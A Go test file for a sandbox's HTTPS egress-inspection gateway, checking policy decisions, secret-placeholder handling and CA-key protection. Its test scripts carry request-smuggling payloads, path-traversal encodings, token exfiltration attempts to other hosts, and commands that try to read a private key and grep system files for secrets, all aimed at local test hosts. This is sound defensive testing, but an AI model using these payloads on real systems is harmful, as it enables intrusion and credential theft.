package egress

import (
	"crypto/tls"
	"io"
	"net/http"
	"os"
	"os/exec"
	"strings"
	"testing"
	"time"

	"github.com/condfs/condfs/internal/testenv"
)

// noValue fails the test if the secret's value is in s.
func noValue(t *testing.T, what, s string) {
	t.Helper()
	if strings.Contains(s, inspectValue) {
		t.Errorf("HOLE: the secret's value is in %s:\n%s", what, s)
	}
}

// TestInspectRequests: each request over HTTPS to an inspected host is
// decided by method and path, through the proxy and captured, by curl
// trusting the run's bundle; an untrusted server is refused with 502.
func TestInspectRequests(t *testing.T) {
	ih := newInspectHome(t)
	d := ih.d
	curl := func(args ...string) string {
		t.Helper()
		// HTTP/1.1 unless a case asks for HTTP/2 (inspect_h2_test.go has those).
		out, _ := testenv.CondfsRun(t, d, "", append([]string{"--", "curl", "-sS", "-i", "--http1.1", "--max-time", "10"}, args...)...)
		noValue(t, "curl's output", out)
		return out
	}
	cases := []struct {
		name string
		args []string
		want string
	}{
		{"proxy: allowed GET", []string{"https://api.test/a/./b/../c?x=1"}, "seen api.test GET /a/c?x=1 auth=none"},
		{"captured: allowed GET", []string{"--noproxy", "*", "https://api.test/%7Ex"}, "seen api.test GET /~x auth=none"},
		{"proxy: denied path", []string{"https://api.test/private/k"}, "403 Forbidden"},
		{"captured: denied path, encoded", []string{"--noproxy", "*", "https://api.test/%70rivate/k"}, "403 Forbidden"},
		{"captured: denied method", []string{"--noproxy", "*", "-X", "DELETE", "https://api.test/a"}, "403 Forbidden"},
		{"proxy: POST with a body", []string{"-d", "hello", "https://api.test/post"}, "seen api.test POST /post auth=none body=5"},
		{"captured: Host names another host", []string{"--noproxy", "*", "-H", "Host: other.test", "https://api.test/a"}, "400 Bad Request"},
		{"captured: an upgrade", []string{"--noproxy", "*", "-H", "Upgrade: websocket", "-H", "Connection: Upgrade", "https://api.test/ws"}, "501 Not Implemented"},
		{"proxy: untrusted server", []string{"https://bad.test/"}, "502 Bad Gateway"},
		{"captured: untrusted server", []string{"--noproxy", "*", "https://bad.test/"}, "502 Bad Gateway"},
		{"captured: an encoded slash", []string{"--noproxy", "*", "--path-as-is", "https://api.test/a/..%2Fprivate/x"}, "400 Bad Request"},
		{"captured: HTTP/2 asked and served", []string{"--noproxy", "*", "--http2", "https://api.test/h2"}, "HTTP/2 200"},
	}
	// The SNI names api.test on a connection to other.test: reset, never
	// a leaf for either.
	if out, _ := testenv.CondfsRun(t, d, "", "--", "curl", "-sS", "--max-time", "10", "--noproxy", "*", "--connect-to", "api.test:443:other.test:443", "https://api.test/sni"); strings.Contains(out, "seen") {
		t.Errorf("HOLE: a client hello naming another host was served:\n%s", out)
	}
	// A second TLS layer inside the terminated one is not HTTP: 400.
	inner := `
import socket, ssl
s = ssl.create_default_context().wrap_socket(socket.create_connection(("api.test", 443)), server_hostname="api.test")
s.sendall(b"\x16\x03\x01\x00\x05\x01\x00\x00\x01\x00")
print(s.recv(200))
`
	if out, _ := testenv.CondfsRun(t, d, "", "--", "python3", "-c", inner); !strings.Contains(out, "400 Bad Request") {
		t.Errorf("a TLS record inside the terminated connection: %s", out)
	}
	for _, c := range cases {
		if out := curl(c.args...); !strings.Contains(out, c.want) {
			t.Errorf("%s: %q not in\n%s", c.name, c.want, out)
		}
	}
	logs := d.Log()
	for _, want := range []string{
		`"host":"api.test","port":443,"protocol":"https","method":"GET","path":"/a/c?x=1","addr":"` + inspectSrv + `","decision":"allow"`,
		`"host":"api.test","port":443,"protocol":"https","method":"GET","path":"/private/k","decision":"deny"`,
		`"refused":"the server's TLS for bad.test: tls: failed to verify certificate`,
	} {
		if !strings.Contains(logs, want) {
			t.Errorf("no %s in the audit log", want)
		}
	}
	if seen := ih.srv.saw(); strings.Contains(seen, "/private") || strings.Contains(seen, "DELETE") || strings.Contains(seen, "bad.test") || strings.Contains(seen, "/sni") {
		t.Errorf("HOLE: the server read what was not decided:\n%s", seen)
	}
	if t.Failed() {
		t.Log(testenv.Tail(logs, 40))
	}
}

// TestInspectPathParity: the path attacks kept for plain HTTP, over
// inspected HTTPS: the same status for each target on both, and none
// read under /private.
func TestInspectPathParity(t *testing.T) {
	ih := newInspectHome(t)
	targets := append(pathFormTargets("api.test"), "/pub/ok")
	code := `
import socket, ssl, sys
ctx = ssl.create_default_context()
def ask(scheme, t):
    host = "api.test" if scheme == "https" else "web.test"
    s = socket.create_connection((host, 443 if scheme == "https" else 80), timeout=5)
    if scheme == "https":
        s = ctx.wrap_socket(s, server_hostname="api.test")
        t = t.replace("http://api.test", "https://api.test")
    t = t.replace("api.test", host)
    s.sendall(("GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (t, host)).encode())
    got = b""
    while True:
        b = s.recv(65536)
        if not b:
            break
        got += b
    return got
for t in sys.argv[2:]:
    for scheme in ("http", "https"):
        try:
            got = ask(scheme, t)
            print(scheme, t, got.split(b"\r\n")[0].decode(), got[got.find(b"\r\n\r\n")+4:][:100].decode(errors="replace").replace("\n", " "), flush=True)
        except Exception as e:
            print(scheme, t, "error", type(e).__name__, e, flush=True)
`
	out, _ := testenv.CondfsRun(t, ih.d, "", append([]string{"--", "python3", "-c", code, "api.test"}, targets...)...)
	status := map[string]map[string]string{}
	for _, l := range strings.Split(out, "\n") {
		f := strings.Fields(l)
		if len(f) < 3 {
			continue
		}
		if strings.Contains(l, "SECRET-DATA") {
			t.Errorf("HOLE: a path decided as not under /private was read under /private: %s", l)
		}
		if status[f[1]] == nil {
			status[f[1]] = map[string]string{}
		}
		status[f[1]][f[0]] = strings.Join(f[2:min(len(f), 4)], " ")
	}
	if !strings.Contains(out, "https /pub/ok HTTP/1.1 200 OK") || !strings.Contains(out, "http /pub/ok HTTP/1.1 200 OK") {
		t.Fatalf("setup: an allowed path was not served over HTTPS:\n%s\n%s", out, testenv.Tail(ih.d.Log(), 20))
	}
	for _, tg := range targets {
		if s := status[tg]; s == nil || s["http"] != s["https"] {
			t.Errorf("%s: plain HTTP %q, HTTPS %q", tg, s["http"], s["https"])
		}
	}
	if t.Failed() {
		t.Log(out)
	}
}

// TestInspectSecrets: the run holds a placeholder; the gateway puts the
// value into header values of requests to api.test in a DM, and refuses
// the placeholder anywhere else; the value is in no output, log or file
// of the run, nor is the CA's key.
func TestInspectSecrets(t *testing.T) {
	ih := newInspectHome(t)
	d := ih.d
	run := func(script string) string {
		t.Helper()
		out, _ := testenv.CondfsRun(t, d, "", "--", "sh", "-c", script)
		noValue(t, "the run's output", out)
		return out
	}
	const c = `curl -sS -i --http1.1 --max-time 10 `
	out := run(`echo "env=$GH_TOKEN"; ` + c + `-H "Authorization: Bearer $GH_TOKEN" https://api.test/with-secret`)
	if !strings.Contains(out, "env=condfs-secret-gh-") || !strings.Contains(out, "seen api.test GET /with-secret auth=ok") {
		t.Errorf("the secret was not put into a request to its host:\n%s", out)
	}
	leaks := []struct{ name, script string }{
		{"another inspected host", c + `-H "Authorization: Bearer $GH_TOKEN" https://other.test/leak1`},
		{"plain HTTP", c + `-H "Authorization: Bearer $GH_TOKEN" http://web.test/leak2`},
		{"the request line", c + `"https://api.test/leak3?t=$GH_TOKEN"`},
		{"a header name", c + `-H "X-$GH_TOKEN: 1" https://api.test/leak4`},
		{"a body to another host", c + `-d "t=$GH_TOKEN" https://other.test/leak5`},
		{"a chunked body to another host", c + `-H "Transfer-Encoding: chunked" -d "t=$GH_TOKEN" https://other.test/leak6`},
		{"a body behind Expect: 100-continue", c + `-H "Expect: 100-continue" -d "t=$GH_TOKEN" https://other.test/leak7`},
		{"trailers", c + `-H "Trailer: X-T" -H "Transfer-Encoding: chunked" -d "t=x" https://api.test/leak8`},
	}
	for _, l := range leaks {
		if out := run(l.script); !strings.Contains(out, "HTTP/1.1 403") && !strings.Contains(out, "HTTP/1.1 400") {
			t.Errorf("%s: not refused:\n%s", l.name, out)
		}
	}
	// The answer of a server that echoes the header shows the placeholder.
	if out := run(c + `-H "Authorization: Bearer $GH_TOKEN" https://api.test/echo-headers`); !strings.Contains(out, "X-Echo: Bearer condfs-secret-gh-") {
		t.Errorf("an echoed value was not written back as the placeholder:\n%s", out)
	}
	// Out of the DM, the secret's when does not hold: refused.
	d.SetContext("s", testenv.Guild)
	if out := run(c + `-H "Authorization: Bearer $GH_TOKEN" https://api.test/guild`); !strings.Contains(out, "403") {
		t.Errorf("the secret went out of its context:\n%s", out)
	}
	d.SetContext("s", testenv.DM)
	// A kept sandbox's next command gets another placeholder; the last
	// one's is refused.
	a, b := run(`echo $GH_TOKEN`), run(`echo $GH_TOKEN`)
	if a == b {
		t.Errorf("one placeholder for two commands: %s", a)
	}
	// A reload whose secret's value cannot be read fails at the value's
	// position, and the last good config (and value) stays in force.
	before := testenv.ConditionsStatus(d)
	conf := d.Home.Path("config/conditions.toml")
	text, _ := os.ReadFile(conf)
	broken := strings.Replace(string(text), "gh-token", "gh-token-gone", 1)
	os.WriteFile(conf+".new", []byte(broken), 0o644)
	os.Rename(conf+".new", conf)
	st := testenv.WaitReload(d, before, false)
	if st.Generation != before.Generation || st.Error == nil || !strings.Contains(*st.Error, "conditions.toml:") || !strings.Contains(*st.Error, "[secrets.gh]: value") {
		t.Errorf("a value that cannot be read: %+v", st)
	} else {
		noValue(t, "the reload's error", *st.Error)
	}
	if out := run(c + `-H "Authorization: Bearer $GH_TOKEN" https://api.test/after-reload`); !strings.Contains(out, "auth=ok") {
		t.Errorf("the last good config is not in force:\n%s", out)
	}
	seen := ih.srv.saw()
	for _, l := range strings.Split(seen, "\n") {
		if strings.Contains(l, "/leak") || strings.Contains(l, "/guild") {
			t.Errorf("HOLE: the server read a refused request: %s", l)
		}
	}
	logs := d.Log()
	noValue(t, "the daemon's log", logs)
	if !strings.Contains(logs, `"secrets":["gh"]`) || !strings.Contains(logs, `leak attempt: the placeholder of secret gh`) {
		t.Errorf("the audit log names no secret or no leak attempt:\n%s", testenv.Tail(logs, 30))
	}
	// The CA's key: the daemon's, never the run's.
	if st, err := os.Stat(ih.ca); err != nil || st.Mode().Perm() != 0o600 {
		t.Errorf("the CA key %s: %v %v", ih.ca, st, err)
	}
	if out := run(`cat ` + ih.ca + ` /proc/1/root` + ih.ca + ` 2>&1; grep -rl "PRIVATE KEY" /etc /tmp /workspace /memories 2>/dev/null; echo done`); strings.Contains(out, "PRIVATE KEY") || !strings.Contains(out, "done") {
		t.Errorf("HOLE: the run reads the CA's key:\n%s", out)
	}
	// Files a run reads: nothing holds the value.
	if out := run(`grep -rl "` + inspectValue[:12] + `" /etc /tmp /workspace /proc/self/environ 2>/dev/null; echo done`); strings.Contains(out, "/") {
		t.Errorf("HOLE: a file of the run holds the value: %s", out)
	}
}

// TestInspectContextSwitch: on one kept-alive connection of the run, a
// context switch takes effect at the next request: the upstream
// connection of the last context is not used again (a server sees the
// new context's requests on a connection of their own), and a secret
// whose when no longer holds is refused at once.
func TestInspectContextSwitch(t *testing.T) {
	ih := newInspectHome(t)
	d := ih.d
	script := `import http.client, os, sys
tok = os.environ["GH_TOKEN"]
c = http.client.HTTPSConnection("api.test", 443, timeout=10)
def get(p, auth):
    c.request("GET", p, headers={"Authorization": "Bearer " + tok} if auth else {})
    r = c.getresponse()
    print(p, r.status, r.read().decode(errors="replace").replace("\n", " "), flush=True)
get("/ctx-a", True)
get("/ctx-b", False)
print("switch", flush=True)
sys.stdin.readline()
get("/ctx-c", False)
try:
    get("/ctx-d", True)
except Exception as e:
    print("/ctx-d", e, flush=True)
`
	cmd := testenv.CommandAs(testenv.Nobody, testenv.Condfs(), "run", "--socket", d.Socket, "--session", "s", "--", "python3", "-c", script)
	in, _ := cmd.StdinPipe()
	pr, pw := io.Pipe()
	cmd.Stdout, cmd.Stderr = pw, pw
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	var out strings.Builder
	done := make(chan struct{})
	switched := make(chan struct{})
	go func() {
		defer close(done)
		buf := make([]byte, 4096)
		once := false
		for {
			n, err := pr.Read(buf)
			out.Write(buf[:n])
			if !once && strings.Contains(out.String(), "switch\n") {
				once = true
				close(switched)
			}
			if err != nil {
				return
			}
		}
	}()
	select {
	case <-switched:
	case <-time.After(30 * time.Second):
		cmd.Process.Kill()
		cmd.Wait()
		pw.Close()
		<-done
		t.Fatalf("the run did not get to the switch:\n%s", out.String())
	}
	d.SetContext("s", testenv.Guild)
	in.Write([]byte("go\n"))
	in.Close()
	cmd.Wait()
	pw.Close()
	<-done
	got := out.String()
	noValue(t, "the run's output", got)
	if !strings.Contains(got, "/ctx-a 200") || !strings.Contains(got, "auth=ok") || !strings.Contains(got, "/ctx-c 200") {
		t.Fatalf("the requests before and after the switch:\n%s", got)
	}
	if !strings.Contains(got, "/ctx-d 403") {
		t.Errorf("HOLE: a secret whose when no longer holds was not refused at the next request:\n%s", got)
	}
	ih.srv.mu.Lock()
	a, b, c, dd := ih.srv.from["/ctx-a"], ih.srv.from["/ctx-b"], ih.srv.from["/ctx-c"], ih.srv.from["/ctx-d"]
	ih.srv.mu.Unlock()
	if a == "" || a != b {
		t.Errorf("one context's requests on one connection came on upstream connections %q and %q (kept alive: one)", a, b)
	}
	if c == "" || c == b {
		t.Errorf("HOLE: the upstream connection of the DM (%s) served the guild's request (%s)", b, c)
	}
	if dd != "" {
		t.Errorf("HOLE: the server read the refused request from %s", dd)
	}
	noValue(t, "the daemon's log", d.Log())
}

// TestInspectClients: git, Python's urllib and Node's fetch trust the
// run's bundle unchanged.
func TestInspectClients(t *testing.T) {
	ih := newInspectHome(t)
	for _, c := range []struct {
		name string
		argv []string
		want string // what the server read
	}{
		{"python urllib (proxy)", []string{"python3", "-c", `import urllib.request; print(urllib.request.urlopen("https://api.test/py").read())`}, "api.test GET /py "},
		// Node's JIT needs memory written and executed, which no run
		// has (docs/sandbox.md): without it fetch has no WebAssembly
		// (its HTTP parser), so Node's own https client stands for it.
		{"node https (captured)", []string{"node", "--jitless", "-e", `require("https").get("https://api.test/node", r => r.pipe(process.stdout)).on("error", e => { console.error(e); process.exit(1) })`}, "api.test GET /node "},
		{"git", []string{"git", "ls-remote", "https://api.test/repo.git"}, "api.test GET /repo.git/info/refs?service=git-upload-pack"},
	} {
		if _, err := exec.LookPath(c.argv[0]); err != nil {
			t.Logf("%s: not on this machine", c.name)
			continue
		}
		out, _ := testenv.CondfsRun(t, ih.d, "", append([]string{"--"}, c.argv...)...)
		if !strings.Contains(ih.srv.saw(), c.want) {
			t.Errorf("%s: the server read no %q:\n%s", c.name, c.want, out)
		}
		if strings.Contains(strings.ToLower(out), "certificate") {
			t.Errorf("%s: %s", c.name, out)
		}
	}
}

// TestInspectUnprivilegedDaemon: inspected HTTPS and secrets on the
// user-namespace path (a daemon run by uid 65534).
func TestInspectUnprivilegedDaemon(t *testing.T) {
	testenv.RequireUnprivilegedFUSE(t)
	n := newNetAt(t, "cfin", "10.233.0")
	ca := newTestCA(t, "condfs test upstream CA")
	srv := &inspectServer{}
	conf := &tls.Config{Certificates: []tls.Certificate{ca.leaf(t, "api.test", "other.test")}}
	go http.Serve(tls.NewListener(numbered(n.listen(t, inspectSrv+":443")), conf), http.HandlerFunc(srv.handler))
	h := testenv.OpenHome(t, "-")
	hosts := h.Write("config/hosts", inspectSrv+" api.test other.test bad.test web.test\n")
	caFile := h.Write("config/upstream-ca.pem", string(ca.pem))
	secret := h.Write("config/gh-token", inspectValue+"\n")
	h.Write("config/conditions.toml", inspectRules(hosts, caFile, secret))
	h.Write("config/policy.yaml", inspectPolicy)
	sock, logs := testenv.StartUnprivileged(t, h)
	os.Chmod(secret, 0o600)
	run := func(script string) string {
		cmd := testenv.CommandAs(testenv.Nobody, testenv.Condfs(), "run", "--socket", sock, "--session", "default", "--", "sh", "-c", script)
		out, _ := cmd.CombinedOutput()
		noValue(t, "the run's output", string(out))
		return string(out)
	}
	const c = `curl -sS -i --http1.1 --max-time 10 `
	for _, tc := range []struct{ script, want string }{
		{c + `https://api.test/u1`, "seen api.test GET /u1 auth=none"},
		{c + `--noproxy '*' -H "Authorization: Bearer $GH_TOKEN" https://api.test/u2`, "seen api.test GET /u2 auth=ok"},
		{c + `https://api.test/private/u3`, "403 Forbidden"},
		{c + `-H "Authorization: Bearer $GH_TOKEN" https://other.test/u4`, "403 Forbidden"},
		{`cat ` + h.Path("run/egress-ca.key") + ` 2>&1; echo done`, "done"},
	} {
		if out := run(tc.script); !strings.Contains(out, tc.want) || strings.Contains(out, "PRIVATE KEY") {
			t.Errorf("%s: %q not in\n%s", tc.script, tc.want, out)
		}
	}
	noValue(t, "the daemon's log", logs())
	if strings.Contains(srv.saw(), "/private") || strings.Contains(srv.saw(), "/u4") {
		t.Errorf("HOLE: the server read a refused request:\n%s", srv.saw())
	}
	if t.Failed() {
		t.Log(testenv.Tail(logs(), 30))
	}
}

// TestInspectNoSmuggling: on a terminated connection, framing a server
// could read otherwise (Content-Length with Transfer-Encoding, two
// Content-Lengths, folding, bare LF, "chunked, identity", chunk
// extensions, an oversize chunk) never has the server read a request the
// gateway did not decide: each hides a request for a path the policy
// refuses, carrying the secret's placeholder.
func TestInspectNoSmuggling(t *testing.T) {
	ih := newInspectHome(t)
	script := `import os, socket, ssl
tok = os.environ["GH_TOKEN"]
inner = "GET /private-smug HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer " + tok + "\r\n\r\n"
cases = [
 "POST /o1 HTTP/1.1\r\nHost: api.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + inner,
 "POST /o2 HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n" + inner,
 "POST /o3 HTTP/1.1\r\nHost: api.test\r\nContent-Length: 0\r\nContent-Length: %d\r\n\r\n%s" % (len(inner), inner),
 "POST /o4 HTTP/1.1\r\nHost: api.test\r\nX-A: a\r\n Transfer-Encoding: chunked\r\nContent-Length: %d\r\n\r\n%s" % (len(inner), inner),
 "POST /o5 HTTP/1.1\nHost: api.test\nContent-Length: %d\n\n%s" % (len(inner), inner),
 "POST /o6 HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n" + inner,
 "POST /o7 HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n\r\n1;x=\"\r\n0\r\n\"\r\nA\r\n0\r\n\r\n" + inner,
 "POST /o8 HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n\r\n10000000000000001\r\nA\r\n0\r\n\r\n" + inner,
 "POST /o9 HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: identity\r\nContent-Length: 5\r\n\r\n0\r\n\r\n" + inner,
 "POST /o10 HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding : chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n" + inner,
 "GET /o11 HTTP/1.1\r\nHost: api.test\r\nContent-Length: %d\r\n\r\n%s" % (len(inner), inner),
 "POST /o12 HTTP/1.1\r\nHost: api.test\r\nExpect: 100-continue\r\nContent-Length: %d\r\n\r\n%s" % (len(inner), inner),
 "POST /o13 HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\nX-T: " + tok + "\r\n\r\n" + inner,
]
ctx = ssl.create_default_context()
for i, c in enumerate(cases):
    try:
        s = ctx.wrap_socket(socket.create_connection(("api.test", 443), timeout=5), server_hostname="api.test")
        s.sendall(c.encode())
        out = b""
        while True:
            b = s.recv(65536)
            if not b:
                break
            out += b
    except Exception as e:
        out = repr(e).encode()
    print("case", i + 1, out.split(b"\r\n")[0].decode(errors="replace"), flush=True)
`
	out, _ := testenv.CondfsRun(t, ih.d, "", "--", "python3", "-c", script)
	noValue(t, "the run's output", out)
	if strings.Count(out, "case ") != 13 {
		t.Fatalf("the run:\n%s", out)
	}
	seen := ih.srv.saw()
	if strings.Contains(seen, "private-smug") {
		t.Errorf("HOLE: the server read a request nobody decided:\n%s\nthe run:\n%s", seen, out)
	}
	noValue(t, "the daemon's log", ih.d.Log())
	t.Logf("the run:\n%s\nthe server:\n%s", out, seen)
}

// TestInspectTunnelDecided: a CONNECT to an inspected host is answered
// 200 undecided, and what it carries is decided as on any connection:
// plain HTTP request by request, raw bytes as tcp (refused), a client
// hello for another name reset; after termination a Host or an
// absolute-form target naming another host, a second request for
// another host on the same connection are refused; the placeholder case-changed, split across headers, in a
// Cookie to another host or in userinfo is never the value.
func TestInspectTunnelDecided(t *testing.T) {
	ih := newInspectHome(t)
	script := `import os, socket, ssl, base64
tok = os.environ["GH_TOKEN"]
px = os.environ["https_proxy"].split("//")[1].rstrip("/").split(":")
def tunnel(host):
    s = socket.create_connection((px[0], int(px[1])), timeout=5)
    s.sendall(("CONNECT %s:443 HTTP/1.1\r\nHost: %s:443\r\n\r\n" % (host, host)).encode())
    b = b""
    while b"\r\n\r\n" not in b:
        b += s.recv(1)
    return s, b.split(b"\r\n")[0].decode()
def readall(s):
    out = b""
    try:
        while True:
            b = s.recv(65536)
            if not b:
                break
            out += b
    except Exception as e:
        out += repr(e).encode()
    return out
def first(out):
    return " | ".join(l.decode(errors="replace") for l in out.split(b"\r\n") if l.startswith(b"HTTP/"))
def show(name, out):
    print(name, first(out) or out[:80], flush=True)
# plain HTTP through the tunnel, refused path
s, st = tunnel("api.test")
s.sendall(b"GET /private-plain HTTP/1.1\r\nHost: api.test:443\r\n\r\n")
show("plain " + st, readall(s))
s, st = tunnel("api.test")
s.sendall(b"\x00\x01raw bytes\r\n\r\n")
show("raw " + st, readall(s))
ctx = ssl.create_default_context()
for sni in ["other.test", "web.test", "evil.test"]:
    s, st = tunnel("api.test")
    try:
        ctx.wrap_socket(s, server_hostname=sni)
        print("sni", sni, "HANDSHAKE-OK", flush=True)
    except Exception as e:
        print("sni", sni, "refused", type(e).__name__, flush=True)
def term(reqs):
    s, st = tunnel("api.test")
    t = ctx.wrap_socket(s, server_hostname="api.test")
    t.sendall(reqs.encode() if isinstance(reqs, str) else reqs)
    return readall(t)
A = "Authorization: Bearer " + tok + "\r\n"
show("host-other", term("GET /x-host HTTP/1.1\r\nHost: other.test\r\n" + A + "\r\n"))
show("abs-other", term("GET https://other.test/x-abs HTTP/1.1\r\nHost: api.test\r\n" + A + "\r\n"))
show("abs-http", term("GET http://api.test/x-abshttp HTTP/1.1\r\nHost: api.test\r\n" + A + "\r\n"))
show("pipelined", term("GET /ok-1 HTTP/1.1\r\nHost: api.test\r\n\r\nGET /x-pipe HTTP/1.1\r\nHost: other.test\r\n" + A + "\r\n"))
show("case", term("GET /case HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer " + tok.upper() + "\r\n\r\n"))
show("split", term("GET /split HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer " + tok[:20] + "\r\nAuthorization: " + tok[20:] + "\r\n\r\n"))
show("cookie-other", term("GET /x-cookie HTTP/1.1\r\nHost: other.test\r\nCookie: t=" + tok + "\r\n\r\n"))
ui = base64.b64encode(("u:" + tok).encode()).decode()
show("userinfo", term("GET /userinfo HTTP/1.1\r\nHost: api.test\r\nAuthorization: Basic " + ui + "\r\n\r\n"))
show("userinfo-line", term("GET https://u:" + tok + "@api.test/x-ui HTTP/1.1\r\nHost: api.test\r\n\r\n"))
`
	out, _ := testenv.CondfsRun(t, ih.d, "", "--", "python3", "-c", script)
	noValue(t, "the run's output", out)
	t.Logf("the run:\n%s", out)
	if strings.Contains(out, "HANDSHAKE-OK") {
		t.Errorf("HOLE: a client hello for another name was terminated:\n%s", out)
	}
	seen := ih.srv.saw()
	for _, l := range strings.Split(seen, "\n") {
		if strings.Contains(l, "/x-") || strings.Contains(l, "/private") || strings.Contains(l, "auth=ok") && !strings.Contains(l, "/ok-") {
			t.Errorf("HOLE: the server read %s", l)
		}
	}
	ih.srv.mu.Lock()
	raw := ih.srv.raw.String()
	ih.srv.mu.Unlock()
	t.Logf("the server:\n%s", seen)
	for _, l := range strings.Split(raw, "\n") {
		if strings.Contains(l, inspectValue) && !strings.Contains(l, "auth=ok") {
			t.Errorf("HOLE: the value went where no header of a listed host is: %s", l)
		}
	}
	noValue(t, "the daemon's log", ih.d.Log())
}

// TestInspectPlaceholderOfCommandBefore: a placeholder is its command's:
// a later command that sends an earlier one's (left in a file, say) never
// has the value put in for it.
func TestInspectPlaceholderOfCommandBefore(t *testing.T) {
	ih := newInspectHome(t)
	old, _ := testenv.CondfsRun(t, ih.d, "", "--", "sh", "-c", `echo $GH_TOKEN`)
	old = strings.TrimSpace(old)
	if !strings.HasPrefix(old, "condfs-secret-gh-") {
		t.Fatalf("the first command's placeholder: %q", old)
	}
	out, _ := testenv.CondfsRun(t, ih.d, "", "--", "sh", "-c", `curl -sS -i --http1.1 --max-time 10 -H "Authorization: Bearer `+old+`" https://api.test/stale; curl -sS -i --http1.1 --max-time 10 -H "Authorization: Bearer $GH_TOKEN" https://api.test/current`)
	noValue(t, "the run's output", out)
	seen := ih.srv.saw()
	if strings.Contains(seen, "/stale auth=ok") {
		t.Errorf("HOLE: the last command's placeholder was given the value:\n%s\nthe server:\n%s", out, seen)
	}
	if !strings.Contains(seen, "/current auth=ok") {
		t.Errorf("the command's own placeholder:\n%s\nthe server:\n%s", out, seen)
	}
	noValue(t, "the daemon's log", ih.d.Log())
}

// pathFormTargets are request targets whose decided (normalised) path is
// not under /private, but which a server that decodes once, merges
// slashes, drops path parameters or removes dot segments reads under
// /private; absolute forms name authority.
func pathFormTargets(authority string) []string {
	return []string{
		"/pub/%2e%2e/private/x", "/pub/.%2E/private/x", "/pub/%2E./private/x", "/%70rivate/x", "/%2fprivate/x",
		"/pub/%c0%ae%c0%ae/private/x", "/pub/%u002e%u002e/private/x", "/pub/..%2fprivate/x", "/pub%2f..%2fprivate/x",
		"/pub/..%5cprivate/x", "/pub/..%5Cprivate/x", "/pub/%2e%2e%2fprivate/x", "/pub/./../private/x", "/./private/x",
		"/pub/..;/private/x", "/pub/%2e%2e;/private/x", "/pub/%2e%2e%3b/private/x", "/pub/x/..%00/../private/x",
		"/pub/%2e%2e%2f%2e%2e%2fprivate/x", "/pub/.%2e%2f/private/x", "/pub/%2e/%2e%2e/private/x",
		"/pub?/../private/x", "/pub%3f/../private/x", "/pub/%3f/../../private/x", "/pub/..%252fprivate/x",
		"/pub/%20/../../private/x", "/pub/.../private/x", "/pub/%2E%2E%2E/../private/x",
		"http://" + authority + "/pub/%2e%2e/private/x", "http://" + authority + "/../private/x", "http://" + authority + "?/../private/x",
		"http://" + authority + "#/../private/x", "http://" + authority + "%2f..%2fprivate/x",
	}
}
